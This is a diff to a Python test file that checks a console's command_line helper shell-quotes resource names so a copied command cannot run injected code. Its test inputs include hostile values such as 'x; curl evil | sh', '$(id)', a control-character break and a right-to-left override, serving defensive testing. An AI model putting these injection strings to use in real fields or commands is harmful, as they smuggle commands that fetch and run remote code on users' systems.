@@ -3,8 +3,10 @@
 from __future__ import annotations
 
 import re
+import shlex
 from collections.abc import AsyncIterator, Mapping
 from contextlib import asynccontextmanager
+from pathlib import Path
 from typing import Any
 
 import httpx
@@ -15,6 +17,7 @@ from tidemill.confluent.clients import Kafka
 from tidemill.gateway.app import topics
 from tidemill.gateway.console import app as app_module
 from tidemill.gateway.console import sessions as sessions_module
+from tidemill.gateway.console.contract import command_line
 from tidemill.gateway.console.sessions import Session, Sessions
 from tidemill.gateway.console.settings import ConsoleSettings
 from tidemill.gateway.errors import HttpError
@@ -56,6 +59,29 @@ def token_in(text: str) -> str:
     found = re.search(r'name="csrf" value="(\w+)"', text)
     assert found is not None
     return found[1]
+
+
+@pytest.mark.parametrize(
+    ("name", "line"),
+    [
+        ("billing", "tidemill group describe billing"),
+        ("x; curl evil | sh", "tidemill group describe 'x; curl evil | sh'"),
+        ("$(id)'", """tidemill group describe '$(id)'"'"''"""),
+        ("--all", "tidemill group describe -- --all"),
+        ("a\x03\ncurl evil | sh\n", ""),  # a terminal would follow it
+        ("\u202egnitseretni", ""),
+    ],
+)
+def test_a_command_to_copy_runs_nothing_that_a_name_says(name: str, line: str) -> None:
+    assert command_line("group", "describe", name=name) == line
+    assert not line or shlex.split(line)[-1] == name
+
+
+def test_no_command_to_copy_is_put_together_in_another_way() -> None:
+    folder = Path(app_module.__file__).parent
+    written = re.compile(r"""f"tidemill |"tidemill [^"]*" ~ (?!topic\.name)""")
+    files = [*folder.rglob("*.py"), *folder.rglob("*.html")]
+    assert [each.name for each in files if written.search(each.read_text())] == []
 
 
 async def test_without_logins_clients_elsewhere_are_refused() -> None:
